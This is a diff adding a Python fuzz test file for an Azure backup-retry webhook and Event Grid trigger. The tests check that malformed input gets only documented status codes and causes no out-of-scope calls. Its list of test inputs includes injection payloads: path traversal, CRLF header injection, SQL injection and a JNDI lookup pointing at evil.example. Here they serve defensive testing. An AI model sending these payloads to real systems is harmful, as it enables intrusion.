@@ -1,0 +1,336 @@
+"""Bad input of every kind at both entry points: documented answers only, no call outside the scope, no trigger."""
+
+import copy
+import json
+import logging
+from collections.abc import Iterator, Sequence
+from dataclasses import dataclass, field
+from datetime import datetime
+from pathlib import Path
+from types import SimpleNamespace
+from typing import Any, cast
+from unittest.mock import patch
+
+import azure.functions as func
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from backup_retry import wiring
+from backup_retry.engine import Engine
+from backup_retry.errors import AzureUnavailable
+from backup_retry.ledger import MemoryLedger
+from backup_retry.model import Job, JobList, JobStatus, Vault
+from backup_retry.opt_outs import MemoryOptOuts
+from backup_retry.policy import Rules
+from backup_retry.scope import Names, Scope
+from backup_retry.vaults import MemoryVaults
+from reactor import webhook
+from reactor.react import Reactor
+from reactor.resolve import Resolver
+from reactor.signals import FAILURE_FOUND
+from tests.builders import OTHER_SUBSCRIPTION, SUBSCRIPTION, item, job, minutes
+from tests.clock import Clock
+
+_PAYLOADS = Path(__file__).parents[1] / "payloads"
+_SHARED = Path(__file__).parents[3] / "shared" / "azure" / "signals"
+DOCUMENTED = {200, 202, 400, 413}
+FUZZ = settings(
+    max_examples=150,
+    deadline=None,
+    derandomize=True,
+    suppress_health_check=[HealthCheck.function_scoped_fixture],
+)
+COMPLETED, RUNNING = "job-completed", "job-running"
+
+
+def _real_payloads() -> list[Any]:
+    files = [*sorted(_PAYLOADS.glob("*.json")), *(sorted(_SHARED.glob("*.json")) if _SHARED.exists() else [])]
+    return [json.loads(file.read_text(encoding="utf-8")) for file in files]
+
+
+REAL = _real_payloads()
+
+# ---- what is sent --------------------------------------------------------------------------------------------------
+
+_VAULTS = "providers/Microsoft.RecoveryServices/vaults"
+HOSTILE_IDS = [
+    "",
+    "/",
+    "//" * 500,
+    "x" * 100_000,
+    f"/subscriptions/{OTHER_SUBSCRIPTION}/resourceGroups/rg-backup/{_VAULTS}/vault-1",
+    f"/subscriptions/{SUBSCRIPTION}/resourceGroups/../{_VAULTS}/vault-1",
+    f"/subscriptions/{SUBSCRIPTION}/resourceGroups/rg?a=b/{_VAULTS}/vault-1",
+    f"/subscriptions/{SUBSCRIPTION}/resourceGroups/rg#x/{_VAULTS}/vault-1",
+    f"/subscriptions/{SUBSCRIPTION}/resourceGroups/rg/{_VAULTS}/vault-1/../../vault-2",
+    f"/SUBSCRIPTIONS/{SUBSCRIPTION.upper()}/RESOURCEGROUPS/RG-BACKUP/{_VAULTS.upper()}/VAULT-1",
+    f"{item().id}/../../../../vaults/vault-2",
+    f"{item().id}\r\nHost: evil.example",
+    f"{item().id}\x00",
+    "https://evil.example/subscriptions",
+    "'; DROP TABLE incidents; --",
+    "${jndi:ldap://evil.example/a}",
+    "\ud800",
+    "\u202e\u05de\u05e1",
+    item().id,
+    item().vault.id,
+    f"{item().vault.id}/backupJobs/{COMPLETED}",
+    COMPLETED,
+    RUNNING,
+]
+scalars = (
+    st.none()
+    | st.booleans()
+    | st.integers()
+    | st.floats()
+    | st.text(max_size=40)
+    | st.sampled_from(HOSTILE_IDS)
+)
+anything = st.recursive(
+    scalars,
+    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4),
+    max_leaves=12,
+)
+
+
+def _places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
+    yield path
+    entries = (
+        value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
+    )
+    for key, inner in entries:
+        yield from _places(inner, (*path, key))
+
+
+def _replaced(payload: Any, path: Sequence[Any], value: Any) -> Any:
+    if not path:
+        return value
+    changed = copy.deepcopy(payload)
+    holder = changed
+    for key in path[:-1]:
+        holder = holder[key]
+    holder[path[-1]] = value
+    return changed
+
+
+@st.composite
+def mutated(draw: st.DrawFn) -> Any:
+    """A real payload in which up to three things are something else."""
+    payload = draw(st.sampled_from(REAL))
+    for _ in range(draw(st.integers(1, 3))):
+        path = draw(st.sampled_from(list(_places(payload))))
+        payload = _replaced(payload, path, draw(anything))
+    return payload
+
+
+def alert(vault_id: Any, item_id: Any, job_id: Any) -> dict[str, Any]:
+    """The built-in alert with ids of the caller's choice."""
+    essentials = {
+        "monitorCondition": "Fired",
+        "monitoringService": "Azure Backup",
+        "alertRule": "Backup Failure",
+    }
+    context = {"protectedItemId": item_id, "extendedInfo": {"jobId": job_id}}
+    data = {"essentials": {**essentials, "alertTargetIDs": [vault_id]}, "alertContext": context}
+    return {"schemaId": "azureMonitorCommonAlertSchema", "data": data}
+
+
+ids = st.sampled_from(HOSTILE_IDS) | st.text(max_size=30) | scalars
+hostile_alerts = st.builds(alert, ids, ids, ids)
+own_events = st.fixed_dictionaries({}, optional={"jobId": ids, "itemId": ids, "vaultId": ids})
+
+# ---- whom it is sent to --------------------------------------------------------------------------------------------
+
+
+@dataclass
+class WatchedVaults(MemoryVaults):
+    """Vaults that remember which subscriptions they were asked about."""
+
+    asked: list[str] = field(default_factory=list)
+
+    async def job(self, vault: Vault, job_id: str) -> Job:
+        """See Vaults."""
+        self.asked.append(vault.subscription)
+        return await super().job(vault, job_id)
+
+    async def jobs(self, vault: Vault, since: datetime, *, fresh_since: datetime) -> JobList:
+        """See Vaults."""
+        self.asked.append(vault.subscription)
+        return await super().jobs(vault, since, fresh_since=fresh_since)
+
+
+class Target:
+    """The app in one process, on an estate in which no backup has failed."""
+
+    def __init__(self) -> None:
+        clock = Clock()
+        self.vaults = WatchedVaults(clock=clock)
+        self.vaults.protect(item())
+        at = clock() - minutes(5)
+        self.vaults.shown_jobs += [
+            job(COMPLETED, status=JobStatus.COMPLETED),
+            job(RUNNING, status=JobStatus.IN_PROGRESS, started_at=at),
+        ]
+        self.ledger = MemoryLedger()
+        scope = Scope(subscriptions=Names(patterns=(SUBSCRIPTION,)))
+        self._engine = Engine(
+            ledger=self.ledger,
+            controls=self.ledger,
+            storms=self.ledger,
+            vaults=self.vaults,
+            opt_outs=MemoryOptOuts(),
+            rules=Rules(scope=scope),
+            clock=clock,
+        )
+        resolver = Resolver(vaults=self.vaults, clock=clock, lookback=minutes(60 * 24), scope=scope)
+        self._reactor = Reactor(resolver=resolver, engine=self._engine)
+        lookback = SimpleNamespace(sweep_lookback=minutes(60 * 24), scope=scope)
+        self.parts = SimpleNamespace(vaults=self.vaults, clock=clock, settings=lookback, engine=self._engine)
+
+    async def reactor(self) -> Reactor:
+        """As reactor.functions gives it."""
+        return self._reactor
+
+    async def post(self, body: bytes) -> int:
+        """Call the webhook; the answer's status."""
+        answer = await webhook.answer(body, self.reactor)
+        json.dumps(answer.body)
+        return answer.status
+
+    async def event(self, event_type: str, data: object) -> None:
+        """Call the Event Grid trigger."""
+        from reactor import functions  # noqa: PLC0415  # its triggers are registered where the settings are
+
+        fields: Any = {"id": "1", "topic": "t", "subject": "s", "event_time": None, "data_version": "1"}
+        event = func.EventGridEvent(event_type=event_type, data=cast("Any", data), **fields)
+
+        async def parts() -> Any:
+            return self.parts
+
+        with patch.object(wiring, "parts", parts):
+            await functions.events(event)
+
+    def unharmed(self) -> bool:
+        """Nothing was triggered, nothing stored, and nobody outside the scope was asked about."""
+        return (
+            not self.vaults.triggered and not self.ledger._heads and set(self.vaults.asked) <= {SUBSCRIPTION}
+        )
+
+
+@pytest.fixture(autouse=True)
+def _silence() -> Iterator[None]:
+    logger = logging.getLogger("backup_retry")
+    before = logger.level
+    logger.setLevel(logging.CRITICAL + 1)
+    yield
+    logger.setLevel(before)
+
+
+def body(payload: Any) -> bytes:
+    """A payload as bytes; lone surrogates stay escaped."""
+    return json.dumps(payload).encode()
+
+
+@FUZZ
+@given(mutated())
+async def test_a_mutated_real_alert_gets_a_documented_answer_and_triggers_nothing(payload: Any) -> None:
+    """Up to three of its values are replaced by anything."""
+    target = Target()
+    assert await target.post(body(payload)) in DOCUMENTED
+    assert target.unharmed()
+
+
+@FUZZ
+@given(hostile_alerts)
+async def test_hostile_ids_in_an_alert_lead_to_no_call_outside_the_scope(payload: Any) -> None:
+    """Traversal, foreign subscriptions, header injection, wrong types."""
+    target = Target()
+    assert await target.post(body(payload)) in DOCUMENTED
+    assert target.unharmed()
+
+
+@FUZZ
+@given(anything)
+async def test_any_json_gets_a_documented_answer(payload: Any) -> None:
+    """Whatever its shape."""
+    target = Target()
+    assert await target.post(body(payload)) in DOCUMENTED
+    assert target.unharmed()
+
+
+@FUZZ
+@given(st.binary(max_size=300))
+async def test_any_bytes_get_a_documented_answer(payload: bytes) -> None:
+    """No JSON, no UTF-8."""
+    target = Target()
+    assert await target.post(payload) in DOCUMENTED
+    assert target.unharmed()
+
+
+@pytest.mark.parametrize(
+    ("payload", "status"),
+    [
+        (b"[" * 100_000, 400),
+        (b'{"a":' * 40_000 + b"1" + b"}" * 40_000, 400),
+        (b'{"data": "\xff\xfe"}', 400),
+        ("{}".encode("utf-16"), 400),
+        (b"\xef\xbb\xbf{}", 400),
+        (b'{"data": ' + b"9" * 5_000 + b"}", 400),
+        (b'{"data": NaN}', 400),
+        (b'"' + b"x" * (webhook.LARGEST_BODY - 2) + b'"', 400),
+        (b" " * (webhook.LARGEST_BODY + 1), 413),
+        (b"", 400),
+        (b"\x00", 400),
+        (b'{"schemaId": "azureMonitorCommonAlertSchema", "data": {"essentials": {}, "essentials": []}}', 400),
+    ],
+    ids=[
+        "deep list",
+        "deep object",
+        "not UTF-8",
+        "UTF-16",
+        "BOM",
+        "huge number",
+        "NaN",
+        "huge",
+        "too large",
+        "empty",
+        "NUL",
+        "twice",
+    ],
+)
+async def test_a_body_that_no_parser_likes_is_refused(payload: bytes, status: int) -> None:
+    """With 400 or 413, and nothing else happens."""
+    target = Target()
+    assert await target.post(payload) == status
+    assert target.unharmed()
+
+
+@FUZZ
+@given(
+    st.sampled_from([FAILURE_FOUND, FAILURE_FOUND.upper(), "Microsoft.Alert", ""]) | st.text(max_size=20),
+    own_events | mutated() | anything,
+)
+async def test_an_event_that_cannot_be_handled_is_acknowledged(event_type: str, data: Any) -> None:
+    """The trigger returns, so that Event Grid does not deliver it again and again."""
+    target = Target()
+    await target.event(event_type, data)
+    assert target.unharmed()
+
+
+@FUZZ
+@given(hostile_alerts | mutated())
+async def test_an_outage_is_answered_by_503_and_by_nothing_else(payload: Any) -> None:
+    """Whatever the alert says: documented, or 503 because Azure does not answer."""
+    target = Target()
+    target.vaults.read_error = AzureUnavailable("no answer")
+    assert await target.post(body(payload)) in DOCUMENTED | {503}
+    assert target.unharmed()
+
+
+async def test_a_job_that_did_not_fail_is_not_retried() -> None:
+    """The alert is well-formed and names a completed or running job of the item."""
+    target = Target()
+    for job_id in (COMPLETED, RUNNING):
+        assert await target.post(body(alert(item().vault.id, item().id, job_id))) == 200
+    assert target.unharmed()
